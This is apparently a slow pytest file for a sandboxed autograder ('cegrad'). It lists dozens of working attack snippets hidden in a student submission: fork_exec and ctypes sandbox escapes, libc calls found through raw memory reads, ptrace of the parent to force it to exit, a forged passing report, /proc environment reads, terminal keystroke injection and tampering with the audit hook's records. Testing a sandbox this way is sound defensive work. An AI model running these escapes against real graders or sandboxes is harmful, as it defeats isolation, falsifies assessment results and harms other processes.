"""Attacks on the grader's sandbox, graded as an instructor would and judged from outside.

Each row of :data:`ATTACKS` is one attack a student could hide in ``word2vec.py``.  The test writes
the submission, runs ``cegrad grade FILE --format json`` in a subprocess as the current user (root
here and on CI, so the privilege drop is exercised), and then checks, in this trusted process and
never by asking the child, that the attack left no trace:

* no file: a world-writable canary folder of the attacker's choosing stays empty, no file carrying
  the attack's token appears in /tmp, /var/tmp or /dev/shm, a canary file keeps its mode, owner
  and content, and every scratch folder is gone;
* no process: nothing whose command line carries the token is still running;
* no connection: a loopback listener started by the test has nothing in its accept queue;
* no harm to others: a victim process started by the test is alive, not stopped, and keeps its
  priority; a terminal opened by the test received no keystrokes;
* a genuine verdict: exit status 1, stdout is exactly one JSON report that says not passed, the
  report names what was refused (where the audit hook is what stops the attack) and contains
  nothing the attacker meant to smuggle out.

An attack's code runs inside the graded function (at every call of a fresh child), and hides its
own failures, as a real attacker would; unless the row says otherwise the function's gradient is
correct, so only the refusal can make the grade fail.  Rows whose protection comes only from an
operating-system layer return a wrong gradient as well (such a layer refuses silently) and are
skipped, with the reason, on a kernel that lacks the layer.
"""

from __future__ import annotations

import contextlib
import ctypes
import json
import os
import re
import signal
import socket
import stat
import subprocess
import sys
import textwrap
import time
import uuid
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path

import pytest

pytestmark = pytest.mark.slow

REPO = Path(__file__).resolve().parents[1]
GRADE_SECONDS = 120  # a whole grading run at the quick profile takes ~1-5 s; a hang is a failure
#: Printed by an attack that believes it worked; the report (your_output) must never contain it.
WORKED = "ATTACK-WORKED"
LEAK = "ATTACK-LEAK"
#: Printed by an attack that got past a first step an OS layer may already refuse (so the hook's
#: refusal of the next step is required only where this shows in the report's your_output).
REACHED = "ATTACK-REACHED"

#: Code every submission starts with: the attack's parameters and small tools attacks share.
PRELUDE = '''
import numpy as np
T = {params!r}
_ATTACKED = []


def say(text):
    print(text + " " + T["token"], flush=True)


def spawn_with(fork_exec, argv, setsid=False):
    """Start argv through a raw fork_exec (the signature of CPython 3.11), as subprocess does."""
    import os
    r, w = os.pipe()
    return fork_exec([a.encode() for a in argv], [argv[0].encode()], True, (w,), None, None,
                     -1, -1, -1, -1, -1, -1, r, w, True, setsid, -1, None, None, None, -1, None, False)


def native(ctypes, names):
    """Addresses of libc functions found with neither dlsym nor /proc: a ctypes cast reads memory
    (no audit event), len's C function lies in libpython, whose relocations name what it imports."""
    pointer = ctypes.POINTER(ctypes.c_uint64)
    def q(address):
        return ctypes.cast(address, pointer)[0]
    def u32(address):
        return q(address) & 0xFFFFFFFF
    def cstr(address):
        out = b""
        while True:
            word = q(address).to_bytes(8, "little")
            if b"\\0" in word:
                return out + word[:word.index(b"\\0")]
            out, address = out + word, address + 8
    base = q(q(id(len) + 16) + 8) & ~0xFFF  # len -> its PyMethodDef -> its C function
    while u32(base) != 0x464C457F:  # back to the ELF header of the library holding it
        base -= 0x1000
    phoff, phnum = q(base + 0x20), q(base + 0x38) & 0xFFFF
    dynamic = next(base + q(base + phoff + 56 * i + 16) for i in range(phnum) if u32(base + phoff + 56 * i) == 2)
    tags = {{}}
    while q(dynamic):
        tags.setdefault(q(dynamic), q(dynamic + 8))
        dynamic += 16
    def fix(value):
        return value if value >= base else base + value
    symtab, strtab, found = fix(tags[6]), fix(tags[5]), {{}}
    for start, size in ((tags.get(23), tags.get(2)), (tags.get(7), tags.get(8))):
        for r in range(fix(start), fix(start) + size, 24) if start else ():
            name = cstr(strtab + u32(symtab + 24 * (q(r + 8) >> 32))).decode()
            if name in names:
                found[name] = q(base + q(r))
    return found


def sleeper():
    """A command that runs for a while and carries the token on its command line."""
    import sys
    return [sys.executable, "-c", "import time; time.sleep(30)", T["token"]]


def shell_trace():
    """A shell command that leaves every trace: a file in the canary folder, a process, a connection."""
    c = T["canary"]
    return (f"echo {{T['token']}} > {{c}}/shell; curl -s -m 2 http://127.0.0.1:{{T['port']}}/ ; "
            f"exec python3 -c 'import time; time.sleep(30)' {{T['token']}}")
'''

GRAD_U = '''

def grad_U(U, v_c, o):
    if not _ATTACKED:
        _ATTACKED.append(1)
        try:
            _attack()
        except ModuleNotFoundError:
            raise  # a tool the sandbox does not serve: the report must say why (hiding it gains nothing)
        except BaseException:  # an attacker hides its failures
            pass
    z = U @ v_c
    p = np.exp(z - z.max())
    p /= p.sum()
    p[o] -= 1.0
    return {result}
'''

CS224N = '''

def naiveSoftmaxLossAndGradient(centerWordVec, outsideWordIdx, outsideVectors, dataset):
    if not _ATTACKED:
        _ATTACKED.append(1)
        try:
            _attack()
        except ModuleNotFoundError:
            raise  # a tool the sandbox does not serve: the report must say why (hiding it gains nothing)
        except BaseException:  # an attacker hides its failures
            pass
    z = outsideVectors @ centerWordVec
    p = np.exp(z - z.max())
    p /= p.sum()
    loss = -np.log(p[outsideWordIdx])
    p[outsideWordIdx] -= 1.0
    grad = {result}
    return loss, outsideVectors.T @ p, grad
'''
RIGHT = {"grad-u": "np.outer(p, v_c)", "cs224n": "np.outer(p, centerWordVec)"}
WRONG = {"grad-u": "-np.outer(p, v_c)", "cs224n": "-np.outer(p, centerWordVec)"}


@dataclass(frozen=True)
class Attack:
    """One row of the table: what the submission does, and what must stop it."""

    id: str
    code: str  # the body of _attack(); may use T, say, spawn_with, sleeper, shell_trace
    layer: str  # the layer that stops it first (the ones beneath are the wall if it fails)
    refusal: str | None = None  # regex the report must contain; None where only the OS refuses
    convention: str = "grad-u"
    wrong: bool = False  # return a wrong gradient (the attack tries to get it passed)
    needs: tuple[str, ...] = ()  # kernel features the stopping layer needs
    at_import: bool = False  # run the attack while the module is imported, not in a call
    must_reach: bool = False  # the attack must get as far as say(REACHED): an OS layer stops the rest


#: How the report names a module the sandbox does not serve once the OS layers lock imports down.
UNAVAILABLE = r"No module named '[\w.]+' inside the grader's sandbox"
PROCESS = r"cegrad: (starting a new process|running a shell command|replacing the process)"
WRITE_OUTSIDE = r"cegrad: .*outside the scratch directory"

ATTACKS = [
    # -- new processes ----------------------------------------------------------------------------
    Attack("subprocess-fork-exec-alias", """
        import subprocess
        spawn_with(subprocess._fork_exec, ["/bin/sh", "-c", shell_trace()])
        say(WORKED)
    """, "hook: no fork_exec alias left in subprocess; seccomp: no fork/exec", r"cegrad: .*fork_exec"),
    Attack("posixsubprocess-fork-exec", """
        import _posixsubprocess
        spawn_with(_posixsubprocess.fork_exec, ["/bin/sh", "-c", shell_trace()])
    """, "hook: import refused; seccomp", r"importing '_posixsubprocess' is not allowed"),
    Attack("import-of-a-lying-str-subclass", """
        class Name(str):
            def __str__(self):
                return "numpy"
            def partition(self, sep):
                return ("numpy", "", "")
        spawn_with(__import__(Name("_posixsubprocess")).fork_exec, ["/bin/sh", "-c", shell_trace()])
    """, "hook: exact str names only; seccomp", r"cegrad: .*not a plain str"),
    Attack("importlib-of-a-lying-str-subclass", """
        import importlib
        class Name(str):
            def __str__(self):
                return "numpy"
        spawn_with(importlib.import_module(Name("_posixsubprocess")).fork_exec, ["/bin/sh", "-c", shell_trace()])
    """, "hook: exact str names only (importlib's slicing makes a plain str); seccomp",
        r"cegrad: .*(not a plain str|importing '_posixsubprocess')"),
    Attack("os-system", """
        import os
        os.system(shell_trace())
    """, "hook; seccomp", PROCESS),
    Attack("os-system-cs224n", """
        import os
        os.system(shell_trace())
    """, "hook; seccomp", PROCESS, convention="cs224n"),
    Attack("os-posix-spawn", """
        import os
        os.posix_spawn("/bin/sh", ["/bin/sh", "-c", shell_trace()], {})
    """, "hook; seccomp", PROCESS),
    Attack("os-fork-then-exec", """
        import os, sys
        if os.fork() == 0:
            os.execv(sys.executable, sleeper())
    """, "hook; seccomp", PROCESS),
    Attack("subprocess-popen-curl-to-loopback", """
        import subprocess
        subprocess.Popen(["curl", "-s", "-m", "2", f"http://127.0.0.1:{T['port']}/"])
    """, "hook; seccomp; network namespace", PROCESS),
    Attack("setsid-child-outlives-the-grader", """
        import subprocess
        spawn_with(subprocess._fork_exec, sleeper(), setsid=True)
        subprocess.Popen(sleeper(), start_new_session=True)
    """, "hook; seccomp; pid namespace", r"cegrad: .*(fork_exec|new process)"),
    Attack("multiprocessing-process", """
        import multiprocessing, time
        multiprocessing.Process(target=time.sleep, args=(30,), name=T["token"]).start()
    """, "hook; seccomp", r"cegrad: .*(new process|_posixsubprocess|socket)"),
    # -- native code ------------------------------------------------------------------------------
    Attack("ctypes-dlsym-libc-system", """
        import ctypes
        ctypes.CDLL(None).system(shell_trace().encode())
    """, "hook: ctypes events; seccomp", r"cegrad: loading or calling C code through ctypes"),
    Attack("ctypes-function-pointer-without-dlsym", """
        import ctypes
        system = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_char_p)(native(ctypes, {"system"})["system"])
        system(shell_trace().encode())
    """, "the sandbox serves no ctypes import; seccomp: no exec, no fork (a call through a ctypes pointer "
         "raises no audit event)", None, wrong=True, needs=("seccomp",)),
    Attack("native-calls-through-the-ctypes-scipy-holds", """
        import scipy.special  # scipy imports ctypes (for LowLevelCallable): the module comes with it
        import os, signal, socket, struct
        ctypes = __import__("scipy._lib._ccallback", fromlist=["x"]).ctypes
        found = native(ctypes, {"system", "chmod", "kill", "mkfifo", "setpriority", "syscall"})
        def libc(name, *argtypes):
            return ctypes.CFUNCTYPE(ctypes.c_long, *argtypes)(found[name])
        text, number = ctypes.c_char_p, ctypes.c_long
        syscall = libc("syscall", number, number, number, number, number)
        say(REACHED)
        say(f"system -> {libc('system', text)(shell_trace().encode())}")
        alive = []  # the bytes whose addresses the calls get must outlive them
        def address(data):
            alive.append(data)
            return ctypes.cast(text(data), ctypes.c_void_p).value
        fd = syscall(2, address((T["canary"] + "/native").encode()), os.O_WRONLY | os.O_CREAT, 0o666, 0)  # open(2)
        say(f"open -> {fd}, write -> {syscall(1, fd, address(T['token'].encode()), 8, 0)}")
        say(f"chmod -> {libc('chmod', text, number)(T['canary_file'].encode(), 0o777)}")
        say(f"mkfifo -> {libc('mkfifo', text, number)((T['canary'] + '/native-fifo').encode(), 0o666)}")
        say(f"setpriority -> {libc('setpriority', number, number, number)(0, T['victim'], 19)}")
        say(f"kill victim -> {libc('kill', number, number)(T['victim'], signal.SIGKILL)}")
        say(f"fork -> {syscall(57, 0, 0, 0, 0)}")
        say(f"ptrace -> {syscall(101, 16, os.getppid(), 0, 0)}")
        peer = struct.pack("<HH4s8x", socket.AF_INET, socket.htons(T["port"]), socket.inet_aton("127.0.0.1"))
        sock = syscall(41, socket.AF_INET, socket.SOCK_STREAM, 0, 0)
        say(f"socket -> {sock}, connect -> {syscall(42, sock, address(peer), 16, 0)}")
        say(f"kill parent -> {libc('kill', number, number)(os.getppid(), signal.SIGKILL)}")
    """, "seccomp (exec, fork, socket, kill, ptrace, setpriority, mknod); landlock (writes); no root (chmod); "
         "the hook sees none of these calls", None, wrong=True, needs=("seccomp", "landlock"), must_reach=True),
    Attack("native-metadata-writes-to-a-world-writable-file-outside", """
        import scipy.special  # brings ctypes along
        ctypes = __import__("scipy._lib._ccallback", fromlist=["x"]).ctypes
        number = ctypes.c_long
        syscall = ctypes.CFUNCTYPE(number, number, number, number, number, number, number)(
            native(ctypes, {"syscall"})["syscall"])
        alive = []  # the bytes whose addresses the calls get must outlive them
        def address(data):
            alive.append(data)
            return ctypes.cast(ctypes.c_char_p(data), ctypes.c_void_p).value
        path = address(T["open_file"].encode())
        say(REACHED)
        say(f"setxattr -> {syscall(188, path, address(b'user.cegrad'), address(b'x'), 1, 0)}")
        say(f"utimensat -> {syscall(280, -100, path, 0, 0, 0)}")  # AT_FDCWD, times = now
        say(f"truncate -> {syscall(76, path, 0, 0, 0, 0)}")
        say(f"open for writing -> {syscall(2, path, 1, 0, 0, 0)}")
    """, "seccomp: no xattrs or timestamps set; landlock: no writes or truncation outside scratch "
         "(the hook sees none of these calls)", None, wrong=True, needs=("seccomp", "landlock"), must_reach=True),
    Attack("metadata-writes-through-os-to-a-world-writable-file-outside", """
        import os
        os.utime(T["open_file"])
        os.setxattr(T["open_file"], "user.cegrad", b"x")
    """, "hook; seccomp; landlock", r"cegrad: os.(utime|setxattr) on"),
    Attack("private-ctypes-module", """
        import _ctypes
        handle = _ctypes.dlopen("libc.so.6")
        _ctypes.call_function(_ctypes.dlsym(handle, "system"), (shell_trace().encode(),))
    """, "hook: ctypes events; seccomp", r"cegrad: loading or calling C code through ctypes"),
    Attack("sub-interpreter-without-the-hook", """
        import _xxsubinterpreters as interpreters
        code = f"import os; os.system({shell_trace()!r})"
        interpreters.run_string(interpreters.create(), code)
    """, "hook: import refused, no sub-interpreters; seccomp", r"cegrad: .*(_xxsubinterpreters|sub-interpreter)"),
    Attack("testcapi-run-in-subinterp", """
        import _testcapi
        _testcapi.run_in_subinterp(f"import os; os.system({shell_trace()!r})")
    """, "hook: test modules refused; seccomp", r"importing '_testcapi' is not allowed"),
    # -- the parent and other processes -----------------------------------------------------------
    Attack("kill-the-parent", """
        import os, signal
        os.kill(os.getppid(), signal.SIGKILL)
    """, "hook; pid namespace; no root", r"cegrad: sending a signal to process", wrong=True),
    Attack("stop-the-parent", """
        import os, signal
        os.kill(os.getppid(), signal.SIGSTOP)
    """, "hook; pid namespace; no root", r"cegrad: sending a signal to process", wrong=True),
    Attack("kill-every-process", """
        import os, signal
        os.kill(-1, signal.SIGKILL)
    """, "hook; pid namespace; no root", r"cegrad: sending a signal to process", wrong=True),
    Attack("kill-a-victim-and-its-group", """
        import os, signal
        os.kill(T["victim"], signal.SIGKILL)
        os.killpg(T["victim"], signal.SIGKILL)
    """, "hook; pid namespace; no root", r"cegrad: sending a signal to process"),
    Attack("pidfd-send-signal-via-private-signal-module", """
        import os, _signal
        fd = os.open(f"/proc/{T['victim']}", os.O_RDONLY)
        _signal.pidfd_send_signal(fd, 9)
    """, "hook: /proc of others and directories refused, pidfd calls refused; pid namespace; no root",
        r"cegrad: .*(another process|directory|pidfd)"),
    Attack("pidfd-open-reimported", """
        import sys
        for name in ("posix", "_signal"):
            sys.modules.pop(name, None)
        import posix, _signal
        _signal.pidfd_send_signal(posix.pidfd_open(T["victim"]), 9)
    """, "hook: re-import refused; pid namespace; no root", r"importing '(posix|_signal)' is not allowed"),
    Attack("fresh-posix-and-signal-through-importlib-without-the-gate", """
        import importlib, os, stat, sys
        # importlib finds built-in modules without an audit event once the gate is off sys.meta_path
        sys.meta_path[:] = [finder for finder in sys.meta_path if "ImportGate" not in repr(finder)]
        for name in ("posix", "_signal"):
            sys.modules.pop(name, None)
        posix, _signal = importlib.import_module("posix"), importlib.import_module("_signal")
        with contextlib.suppress(OSError):
            posix.mkfifo(T["canary"] + "/fresh-fifo")
        with contextlib.suppress(OSError):
            posix.mknod(T["canary"] + "/fresh-node", stat.S_IFREG | 0o666)
        with contextlib.suppress(OSError):
            posix.setpriority(os.PRIO_PROCESS, T["victim"], 19)
        with contextlib.suppress(OSError):
            _signal.pidfd_send_signal(posix.pidfd_open(T["victim"]), 9)
    """, "seccomp: no mknod, no pidfds, no priority of others; no root; landlock (the hook never sees "
         "a built-in module created again)", None, wrong=True, needs=("seccomp", "landlock")),
    Attack("setpriority-of-another-process", """
        import os
        os.setpriority(os.PRIO_PROCESS, T["victim"], 19)
    """, "hook: setpriority refused; no root", r"cegrad: .*setpriority"),
    Attack("fake-report-on-the-parents-stdout", """
        import os
        with open(f"/proc/{os.getppid()}/fd/1", "w") as out:
            out.write('{"passed": true, "score": 85, "max_score": 85, "properties": []}\\n')
        os.kill(os.getppid(), 9)
    """, "hook: /proc of others refused; pid namespace; no root", r"cegrad: .*(another process|outside the scratch)",
        wrong=True),
    Attack("spawned-helper-fakes-the-report-and-ptraces-the-parent", """
        import os, subprocess, sys
        spawn_with(subprocess._fork_exec, [sys.executable, "-c", PTRACE_HELPER, T["token"], str(os.getppid())])
        import time
        time.sleep(3)
    """, "hook; seccomp: no exec, no ptrace; pid namespace; no root", r"cegrad: .*fork_exec", wrong=True),
    Attack("ptrace-the-parent-through-ctypes", """
        import ctypes, os
        libc = ctypes.CDLL(None)
        libc.ptrace(16, os.getppid(), None, None)  # PTRACE_ATTACH
    """, "hook: ctypes events; seccomp: no ptrace; no root", r"cegrad: loading or calling C code", wrong=True),
    Attack("read-the-parents-environment", """
        import os
        say(LEAK + open(f"/proc/{os.getppid()}/environ").read())
    """, "hook: /proc of others refused; pid namespace; no root", r"cegrad: reading another process"),
    Attack("terminal-keystroke-injection", """
        import fcntl, glob, termios
        for tty in glob.glob("/dev/pts/[0-9]*"):
            with open(tty) as fd:
                for ch in f"echo {T['token']}\\n":
                    fcntl.ioctl(fd, termios.TIOCSTI, ch.encode())
    """, "hook: devices refused; no root", r"cegrad: opening the device"),
    # -- files outside scratch --------------------------------------------------------------------
    Attack("open-for-writing-outside", """
        open(T["canary"] + "/open", "w").write(T["token"])
        open(T["stray"], "w").write(T["token"])
    """, "hook; landlock; no root", WRITE_OUTSIDE),
    Attack("fileio-of-an-object-whose-class-claims-int", """
        import _io
        class Liar:
            __class__ = property(lambda self: int)
            def __index__(self):
                raise TypeError("not an index")
            def __fspath__(self):
                return T["canary"] + "/fileio"
        f = _io.FileIO(Liar(), "w")
        f.write(T["token"].encode())
    """, "hook: exact types only; landlock", r"cegrad: .*path object"),
    Attack("dir-fd-relative-to-scratch-with-cwd-deeper", """
        import os
        fd = os.open(".", os.O_RDONLY)
        rel = os.path.relpath(T["canary"], os.getcwd())
        for k in range(rel.count("..")):
            os.mkdir(f"d{k}")
            os.chdir(f"d{k}")
        out = os.open(rel + "/dirfd", os.O_WRONLY | os.O_CREAT, 0o666, dir_fd=fd)
        os.write(out, T["token"].encode())
    """, "hook: no directory descriptors; landlock", r"cegrad: opening the directory"),
    Attack("fileio-opener-relative-to-a-dir-fd", """
        import io, os
        fd = os.open(".", os.O_RDONLY | os.O_DIRECTORY)
        rel = os.path.relpath(T["canary"], os.getcwd())
        io.FileIO(rel + "/opener", "w", opener=lambda name, flags: os.open(name, flags, dir_fd=fd)).write(b"x")
    """, "hook: no directory descriptors; landlock", r"cegrad: opening the directory"),
    Attack("chdir-outside-then-write", """
        import os
        os.chdir(T["canary"])
        open("chdir", "w").write(T["token"])
    """, "hook: no chdir outside scratch; landlock", r"cegrad: os.chdir on"),
    Attack("dir-fd-to-read-the-reference", """
        import os
        fd = os.open(".", os.O_RDONLY)
        rel = os.path.relpath(T["reference"], os.getcwd())
        for k in range(rel.count("..")):
            os.mkdir(f"d{k}")
            os.chdir(f"d{k}")
        say(LEAK + os.read(os.open(rel, os.O_RDONLY, dir_fd=fd), 100000).decode())
    """, "hook: no directory descriptors", r"cegrad: opening the directory"),
    Attack("chdir-to-read-the-reference", """
        import os
        os.chdir(os.path.dirname(T["reference"]))
        say(LEAK + open(os.path.basename(T["reference"])).read())
    """, "hook: no chdir outside scratch, grader's files refused", r"cegrad: (os.chdir on|reading the grader)"),
    Attack("fchmod-and-fchown-of-a-read-only-descriptor", """
        import os
        fd = os.open(T["canary_file"], os.O_RDONLY)  # Landlock, once up, refuses this read already
        say(REACHED)
        os.chmod(fd, 0o777)
        os.chown(fd, 12345, 12345)
        os.utime(fd, (0, 0))
    """, "hook: descriptors resolved; no root; landlock", r"cegrad: os.ch(mod|own) on", wrong=True),
    Attack("mkfifo-outside", """
        import os
        os.mkfifo(T["canary"] + "/fifo")
    """, "hook: mkfifo refused; seccomp; landlock", r"cegrad: .*mkfifo"),
    Attack("mknod-outside", """
        import os, stat
        os.mknod(T["canary"] + "/node", stat.S_IFREG | 0o666)
    """, "hook: mknod refused; seccomp; landlock", r"cegrad: .*mknod"),
    Attack("character-device-made-in-scratch-and-opened", """
        import os, stat
        os.mknod("tty", stat.S_IFCHR | 0o666, T["tty_rdev"])
        with open("tty", "w") as tty:
            tty.write(T["token"] + "\\n")
    """, "hook: mknod and devices refused; seccomp: no mknod; no root", r"cegrad: .*mknod"),
    Attack("readline-history-file", """
        import readline
        readline.add_history(T["token"])
        readline.write_history_file(T["canary"] + "/history")
    """, "hook: readline refused; landlock", r"importing 'readline' is not allowed"),
    Attack("sqlite3-connect-path", """
        import sqlite3
        sqlite3.connect(T["canary"] + "/db").execute("create table t (x)")
    """, "hook: sqlite3 refused; landlock", r"cegrad: opening an sqlite3 database"),
    Attack("sqlite3-attach-from-memory", """
        import sqlite3
        db = sqlite3.connect(":memory:")
        db.execute(f"attach database '{T['canary']}/attached' as a")
        db.execute("create table a.t (x)")
    """, "hook: sqlite3 refused; landlock", r"cegrad: opening an sqlite3 database"),
    Attack("numpy-tofile", """
        np.arange(3.0).tofile(T["canary"] + "/tofile")
    """, "hook; landlock", WRITE_OUTSIDE),
    Attack("numpy-save", """
        np.save(T["canary"] + "/save.npy", np.arange(3.0))
    """, "hook; landlock", WRITE_OUTSIDE),
    Attack("numpy-memmap", """
        m = np.memmap(T["canary"] + "/memmap", dtype="float64", mode="w+", shape=(3,))
        m[:] = 1.0
        m.flush()
    """, "hook; landlock", WRITE_OUTSIDE),
    Attack("shutil-copy-and-move", """
        import shutil
        open("inside", "w").write(T["token"])
        shutil.copy("inside", T["canary"] + "/copy")
        shutil.move("inside", T["canary"] + "/move")
    """, "hook; landlock", r"cegrad: .*(outside the scratch directory)"),
    Attack("link-symlink-rename", """
        import os
        open("inside", "w").write(T["token"])
        os.link("inside", T["canary"] + "/link")
        os.symlink("/etc/passwd", T["canary"] + "/symlink")
        os.rename("inside", T["canary"] + "/renamed")
    """, "hook; landlock", r"cegrad: os.(link|symlink|rename) on"),
    Attack("symlink-in-scratch-then-write-through-it", """
        import os
        os.symlink(T["canary"], "escape")
        open("escape/through", "w").write(T["token"])
    """, "hook: paths resolved; landlock", WRITE_OUTSIDE),
    Attack("symlink-swap-race", """
        import os, threading, time
        os.mkdir("d")
        stop = []
        def flip():
            while not stop:
                with contextlib.suppress(OSError):
                    os.rmdir("d")
                    os.symlink(T["canary"], "d")
                    os.unlink("d")
                    os.mkdir("d")
        import contextlib
        threading.Thread(target=flip, daemon=True).start()
        end = time.monotonic() + 1.0
        while time.monotonic() < end:
            with contextlib.suppress(BaseException):
                open("d/raced", "w").close()
        stop.append(1)
    """, "landlock (the hook cannot see a race between its check and the kernel's open)", None,
        wrong=True, needs=("landlock",)),
    Attack("shared-memory-in-dev-shm", """
        import _posixshmem, os
        os.write(_posixshmem.shm_open("/cegrad-" + T["token"], os.O_CREAT | os.O_RDWR, 0o666), b"x")
    """, "hook: _posixshmem refused; landlock", r"importing '_posixshmem' is not allowed"),
    Attack("named-semaphore-in-dev-shm", """
        import _multiprocessing
        _multiprocessing.SemLock(1, 1, 1, "/cegrad-" + T["token"], False)
    """, "hook: _multiprocessing refused; landlock", r"importing '_multiprocessing' is not allowed"),
    Attack("write-at-import-time", """
        open(T["canary"] + "/at-import", "w").write(T["token"])
    """, "hook; landlock", r"at import time your code tried something .*outside the scratch directory",
        wrong=True, at_import=True),
    # -- network ----------------------------------------------------------------------------------
    Attack("socket-af-inet-to-loopback", """
        import socket
        socket.create_connection(("127.0.0.1", T["port"]), timeout=2)
    """, "hook; seccomp: no sockets; network namespace", r"cegrad: opening a network socket"),
    Attack("private-socket-module", """
        import _socket
        s = _socket.socket(_socket.AF_INET, _socket.SOCK_STREAM)
        s.connect(("127.0.0.1", T["port"]))
    """, "hook; seccomp: no sockets; network namespace", r"cegrad: opening a network socket"),
    Attack("socket-af-unix", """
        import socket
        socket.socket(socket.AF_UNIX, socket.SOCK_STREAM).connect("/run/systemd/private")
    """, "hook; seccomp: no sockets", r"cegrad: opening a network socket"),
    Attack("socket-af-netlink", """
        import socket
        socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0).bind((0, 0))
    """, "hook; seccomp: no sockets; network namespace", r"cegrad: opening a network socket"),
    # -- limits and the hook's own state ----------------------------------------------------------
    Attack("setrlimit-back-up", """
        import resource
        resource.setrlimit(resource.RLIMIT_AS, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
        resource.setrlimit(resource.RLIMIT_NPROC, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
    """, "hook; no root (hard limits cannot rise)", r"cegrad: changing resource limits"),
    Attack("640-mib-into-scratch-in-one-call", """
        import os
        written = 0
        with contextlib.suppress(OSError):
            for k in range(40):
                with open(f"fill{k}", "wb") as f:
                    written += f.write(bytes(16 << 20))
        say(f"WROTE {written}")
    """, "tmpfs size quota on scratch (RLIMIT_FSIZE caps one file only)", None, wrong=True,
        needs=("scratch-quota",)),
    Attack("clear-the-refusal-record-through-f-locals", """
        import os, sys
        with contextlib.suppress(PermissionError):
            os.system(shell_trace())
        frame = sys._getframe(1)
        while frame is not None:
            for value in list(frame.f_locals.values()):
                if type(value) is list and any("not allowed" in str(v) for v in value):
                    value.clear()
            frame = frame.f_back
    """, "hook: the record is not in any frame", PROCESS),
    Attack("clear-the-refusal-record-through-f-locals-cs224n", """
        import os, sys
        with contextlib.suppress(PermissionError):
            os.system(shell_trace())
        frame = sys._getframe(1)
        while frame is not None:
            for value in list(frame.f_locals.values()):
                if type(value) is list and any("not allowed" in str(v) for v in value):
                    value.clear()
            frame = frame.f_back
    """, "hook: the record is not in any frame", PROCESS, convention="cs224n"),
    Attack("clear-the-refusal-record-through-gc", """
        import gc, os
        with contextlib.suppress(PermissionError):
            os.system(shell_trace())
        for value in gc.get_objects():
            if isinstance(value, list) and any("not allowed" in str(v) for v in value[:3]):
                value.clear()
    """, "hook", PROCESS),
    Attack("trace-function-reads-the-hooks-frame", """
        import os, sys
        def tracer(frame, event, arg):
            for value in list(frame.f_locals.values()):
                if type(value) is list and any("not allowed" in str(v) for v in value):
                    value.clear()
            return tracer
        sys.settrace(tracer)
        os.system(shell_trace())
    """, "hook: tracing refused", r"cegrad: .*trac"),
    Attack("another-thread-reads-the-hooks-frame", """
        import os, sys, threading
        def snoop():
            for _ in range(20000):
                for frame in sys._current_frames().values():
                    for value in list(frame.f_locals.values()):
                        if type(value) is list and any("not allowed" in str(v) for v in value):
                            value.clear()
        with contextlib.suppress(RuntimeError):  # RLIMIT_NPROC may allow no thread at all
            threading.Thread(target=snoop, daemon=True).start()
        os.system(shell_trace())
    """, "hook: other threads' frames refused", r"cegrad: .*(frames|new process|shell)"),
    Attack("signal-handler-rewrites-the-hooks-state", """
        import os, signal, sys
        here = os.getcwd()  # the scratch folder, as the hook knows it
        def handler(signum, frame):
            # runs between two bytecodes of whatever was running: sometimes the hook itself
            while frame is not None:
                if frame.f_code.co_name == "hook":
                    for value in list(frame.f_locals.values()):
                        for cell in getattr(value, "__closure__", None) or ():
                            with contextlib.suppress(Exception):
                                if cell.cell_contents == here:
                                    cell.cell_contents = "/"
                                elif type(cell.cell_contents) is list:
                                    cell.cell_contents.clear()
                        with contextlib.suppress(Exception):
                            value.__defaults__ = tuple("/" if d == here else d for d in value.__defaults__)
                frame = frame.f_back
        signal.signal(signal.SIGALRM, handler)
        signal.setitimer(signal.ITIMER_REAL, 0.0001, 0.0001)
        for _ in range(3000):
            open(os.devnull).close()
        signal.setitimer(signal.ITIMER_REAL, 0, 0)
        open(T["canary"] + "/after-rewrite", "w").write(T["token"])
    """, "hook: no Python signal handlers (they run inside the hook); its frame holds immutable values and "
         "closure-free helpers only", r"cegrad: calling signal.signal"),
    Attack("sigint-to-itself-to-interrupt-the-hook", """
        import os, signal
        # Python's own SIGINT handler raises KeyboardInterrupt at the next bytecode: with luck
        # inside the hook, before it records the refusal of the write below
        for _ in range(200):
            with contextlib.suppress(BaseException):
                os.kill(os.getpid(), signal.SIGINT)
                open(T["canary"] + "/interrupted", "w").write(T["token"])
    """, "hook: SIGINT has its default action (the child ends), and anything raised inside the hook "
         "refuses", r"cegrad: .*(outside the scratch directory|interrupting)|process ended"),
    Attack("thread-outlives-the-call-and-rewrites-later-outputs", """
        import threading, time
        def rewrite():
            while True:
                for g in list(OUTPUTS):
                    g *= -1.0  # the wrong (negated) gradient made right after it is returned
                OUTPUTS.clear()
                time.sleep(0.0005)
        threading.Thread(target=rewrite, daemon=True).start()
    """, "the parent judges the bytes the child sent, never the child's objects", None, wrong=True),
]


PTRACE_HELPER = r'''
import ctypes, json, os, sys
token, parent = sys.argv[1], int(sys.argv[2])
fake = {"submission": "word2vec.py", "convention": "grad-u", "passed": True, "score": 85, "max_score": 85,
        "properties": [], "notes": [], "your_output": "", "seed": 0, "profile": "quick", "elapsed_s": 1.0}
with open(f"/proc/{parent}/fd/1", "w") as out:
    out.write(json.dumps(fake) + "\n")
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
names = "r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx rdx rsi rdi orig_rax rip cs eflags rsp ss fs_base gs_base ds es fs gs"
Regs = type("Regs", (ctypes.Structure,), {"_fields_": [(n, ctypes.c_ulonglong) for n in names.split()]})
if libc.ptrace(16, parent, None, None) == 0:  # PTRACE_ATTACH: the parent stops inside its poll()
    os.waitpid(parent, 0x40000000)  # __WALL
    regs = Regs()
    libc.ptrace(12, parent, None, ctypes.byref(regs))  # PTRACE_GETREGS
    # run the syscall instruction again, as exit_group(0), and do not let the kernel restart poll
    regs.orig_rax, regs.rax, regs.rdi, regs.rip = 2**64 - 1, 231, 0, regs.rip - 2
    libc.ptrace(13, parent, None, ctypes.byref(regs))  # PTRACE_SETREGS
    libc.ptrace(17, parent, None, None)  # PTRACE_DETACH
else:
    os.kill(parent, 9)
'''


# -- the arena: everything the attacks aim at, and the checks from outside --------------------------


@dataclass
class Arena:
    token: str
    canary: Path  # world-writable, so only the sandbox (not file permissions) keeps it empty
    canary_file: Path  # pre-existing, mode 0o600, owned by us: must keep mode, owner, content
